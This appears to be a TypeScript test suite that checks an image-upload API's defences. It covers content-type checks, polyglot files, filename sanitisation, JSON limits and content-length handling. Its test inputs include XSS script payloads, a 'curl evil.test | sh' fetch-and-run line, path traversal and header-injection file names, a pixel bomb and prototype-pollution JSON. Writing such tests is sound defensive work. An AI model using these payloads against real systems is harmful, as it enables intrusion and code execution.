import { env } from 'cloudflare:test';
import { beforeAll, describe, expect, it } from 'vitest';
import { jpeg, mov, mp4, PICTURE, png, webm } from '../support/media.ts';
import { as, CONSENT, createPerson, fetchApi, type Person, readData } from '../support/people.ts';

const MIB = 1024 * 1024;

let owner: Person;

beforeAll(async () => {
  owner = await createPerson();
});

type Bytes = Uint8Array<ArrayBuffer>;

const send = (path: string, init: RequestInit): Promise<Response> =>
  fetchApi(path, as(owner.token, init));

const utf8 = (text: string): Bytes => new TextEncoder().encode(text.padEnd(600, ' '));

/** Bytes that some reader takes for a script or a page, whatever they begin with. */
const hiding = (head: Bytes, text: string): Bytes => {
  const bytes = new Uint8Array(head);
  bytes.set(new TextEncoder().encode(text), 300);
  return bytes;
};

const SCRIPT = '<script>alert(document.domain)</script>';

const REFUSED: readonly (readonly [string, Bytes])[] = [
  ['HTML', utf8(`<!doctype html>${SCRIPT}`)],
  ['SVG', utf8(`<svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`)],
  ['XML', utf8(`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>`)],
  ['a script', utf8('#!/bin/sh\ncurl evil.test | sh')],
  ['a PDF', utf8('%PDF-1.7\n')],
  ['a GIF that is a script', utf8('GIF89a/*.........*/=1;alert(1)')],
  ['a bitmap', utf8('BM......')],
  ['a ZIP with a picture behind it', hiding(utf8('PK\x03\x04\x14\x00'), '\x89PNG\r\n\x1a\n')],
  ['HTML with a picture behind it', hiding(utf8('<html>'), '\x89PNG\r\n\x1a\n')],
  ['half of the first bytes of a PNG', utf8('\x89PNG')],
  ['a PNG after a blank', new Uint8Array([32, ...PICTURE])],
  ['a program', new Uint8Array([0x7f, 0x45, 0x4c, 0x46, ...new Uint8Array(600)])],
  ['zeros', new Uint8Array(600)],
  ['one byte', new Uint8Array([0x89])],
];

async function putParts(bytes: Bytes, type: string): Promise<Response> {
  const about = { name: 'a.png', type, size: bytes.byteLength };
  const begun = await send('/uploads', { method: 'POST', body: JSON.stringify(about) });
  const { fileId } = await readData<{ fileId: string }>(begun);
  const part = await send(`/uploads/${fileId}/parts/1`, { method: 'PUT', body: bytes });
  if (!part.ok) return part;
  return send(`/uploads/${fileId}/complete`, { method: 'POST' });
}

function post(path: string, files: Readonly<Record<string, Bytes>>, type: string) {
  const body = new FormData();
  for (const [name, bytes] of Object.entries(files)) {
    body.set(name, new File([bytes], 'a.png', { type }));
  }
  body.set('consent', JSON.stringify(CONSENT));
  return send(path, { method: 'POST', body });
}

const WAYS: readonly (readonly [string, (bytes: Bytes, type: string) => Promise<Response>])[] = [
  ['in parts', putParts],
  ['in a form', (bytes, type) => post('/upload', { file: bytes }, type)],
  [
    'as the source of a form',
    (bytes, type) =>
      post('/single-image-swap', { source_image: bytes, target_image: PICTURE }, type),
  ],
  [
    'as the target of a form',
    (bytes, type) =>
      post('/single-image-swap', { source_image: PICTURE, target_image: bytes }, type),
  ],
];

const count = async (): Promise<number> =>
  (await env.FILES.list({ prefix: `${owner.owner}/` })).objects.length;

describe.each(WAYS)('what comes %s', (_way, bring) => {
  it.each(REFUSED)('is refused when it is %s, whatever it is called', async (_what, bytes) => {
    const before = await count();
    for (const type of ['image/png', 'image/svg+xml', 'video/mp4', '']) {
      const response = await bring(bytes, type);
      expect(response.status).toBe(415);
      expect(await response.json()).toMatchObject({ code: 'unsupported-type' });
    }
    expect(await count()).toBe(before);
  });
});

const POLYGLOTS: readonly (readonly [string, Bytes, string])[] = [
  ['PNG', hiding(png(), SCRIPT), 'image/png'],
  ['JPEG', hiding(jpeg(), SCRIPT), 'image/jpeg'],
  ['MP4', hiding(mp4(), SCRIPT), 'video/mp4'],
  ['QuickTime', hiding(mov(), SCRIPT), 'video/quicktime'],
  ['WebM', hiding(webm('webm'), SCRIPT), 'video/webm'],
];

describe('a page hidden in a file', () => {
  it.each(POLYGLOTS)('is a %s and never a page', async (_what, bytes, type) => {
    const uploaded = await post('/upload', { file: bytes }, 'text/html');
    const { fileId } = await readData<{ fileId: string }>(uploaded);
    const { headers } = await send(`/download/${fileId}/page.html`, {});
    expect(headers.get('content-type')).toBe(type);
    expect(headers.get('x-content-type-options')).toBe('nosniff');
    expect(headers.get('content-security-policy')).toBe("default-src 'none'; sandbox");
    expect(headers.get('content-disposition')).not.toContain('page.html');
  });

  it('is a picture with too many pixels when it says so', async () => {
    const bomb = png(1000, { width: 60_000, height: 60_000 });
    for (const [, bring] of WAYS) expect((await bring(bomb, 'image/png')).status).toBe(413);
  });
});

describe('a name', () => {
  it.each([
    'a\r\nset-cookie: a=b.png',
    'a\nb\u2028c\u0000.png',
    '"; filename="evil.exe',
    "a'; filename*=UTF-8''evil.exe",
    '../../etc/passwd',
    '..\\..\\boot.ini',
    'a%0d%0aset-cookie: a=b.png',
    '\u202egnp.exe',
    '<img src=x onerror=alert(1)>.png',
    '',
    '文'.repeat(400),
  ])('is only a name: %j', async (name) => {
    const about = { name: name || ' ', type: '', size: PICTURE.byteLength };
    const begun = await send('/uploads', { method: 'POST', body: JSON.stringify(about) });
    const { fileId } = await readData<{ fileId: string }>(begun);
    await send(`/uploads/${fileId}/parts/1`, { method: 'PUT', body: PICTURE });
    await send(`/uploads/${fileId}/complete`, { method: 'POST' });
    const { status, headers } = await send(`/download/${fileId}?download=1`, {});
    expect(status).toBe(200);
    expect(headers.get('set-cookie')).toBeNull();
    expect(headers.get('content-disposition')).toMatch(
      /^attachment; filename="[^"\\%\r\n]*"; filename\*=UTF-8''[A-Za-z0-9%!#$&+.^_`|~-]*$/,
    );
  });
});

const JSON_ROUTES = [
  ['POST', '/uploads'],
  ['POST', '/process/single-image'],
  ['POST', '/detect-faces'],
  ['POST', '/cancel/none'],
] as const;

describe.each(JSON_ROUTES)('JSON for %s %s', (method, path) => {
  const ask = async (body: BodyInit, length?: number): Promise<number> => {
    const headers: HeadersInit = length === undefined ? {} : { 'content-length': String(length) };
    return (await send(path, { method, body, headers })).status;
  };

  it('is read up to a limit, whatever was declared', async () => {
    const huge = JSON.stringify({ name: 'a'.repeat(MIB) });
    expect(await ask(huge)).toBe(413);
    expect(await ask(huge, 10)).toBe(413);
    expect(await ask('{}', 10 * 1024 * MIB)).toBeLessThan(500);
    expect(await ask('[]', 1)).toBeLessThan(500);
  });

  it('is refused when it is deep, broken or no object', async () => {
    const deep = '{"a":'.repeat(40_000);
    for (const body of [deep, `${deep}1${'}'.repeat(40_000)}`, '[', '\u0000', '"a"', '1', '[[]]']) {
      expect([400, 404], body.slice(0, 20)).toContain(await ask(body));
    }
  });

  it('gives nothing to the prototype of other things', async () => {
    const evil = '{"polluted":true}';
    await ask(`{"__proto__":${evil},"constructor":{"prototype":${evil}},"options":${evil}}`);
    await ask(`{"face_mappings":{"__proto__":"a"},"consent":{"__proto__":${evil}}}`);
    expect(Reflect.get({}, 'polluted')).toBeUndefined();
  });
});

describe('a body of another length than it says', () => {
  const part = async (size: number): Promise<string> => {
    const body = JSON.stringify({ name: 'a.png', type: 'image/png', size });
    const begun = await send('/uploads', { method: 'POST', body });
    return `/uploads/${(await readData<{ fileId: string }>(begun)).fileId}/parts/1`;
  };
  const put = async (path: string, body: Bytes, length: string) =>
    (await send(path, { method: 'PUT', body, headers: { 'content-length': length } })).status;

  it('is no part', async () => {
    const path = await part(1000);
    expect(await put(path, png(10), '1000')).toBe(400);
    expect(await put(path, png(5000), '1000')).toBe(400);
    expect(await put(path, png(1000), '999999999')).toBe(413);
    expect(await put(path, png(1000), '10')).toBe(400);
    for (const odd of ['-1', '1e3', '0x3e8', '1000, 1000', '9'.repeat(20), '']) {
      expect(await put(path, png(1000), odd), odd).toBe(411);
    }
    expect(await put(path, png(1000), '1000')).toBe(200);
  });

  it('is no form', async () => {
    const form = new FormData();
    form.set('file', new File([png(100_000)], 'a.png'));
    const whole = new Request('https://worker.test', { method: 'POST', body: form });
    const type = { 'content-type': whole.headers.get('content-type') ?? '' };
    const body = await whole.arrayBuffer();
    const ask = async (bytes: ArrayBuffer, length: number): Promise<number> => {
      const headers = { ...type, 'content-length': String(length) };
      return (await send('/upload', { method: 'POST', body: bytes, headers })).status;
    };
    const before = await count();
    expect(await ask(body, 1000)).toBe(400);
    expect(await ask(body.slice(0, 1000), body.byteLength)).toBe(400);
    expect(await ask(body, 10 * 1024 * MIB)).toBe(413);
    expect(await count()).toBe(before);
    expect(await ask(body, body.byteLength)).toBe(200);
  });
});
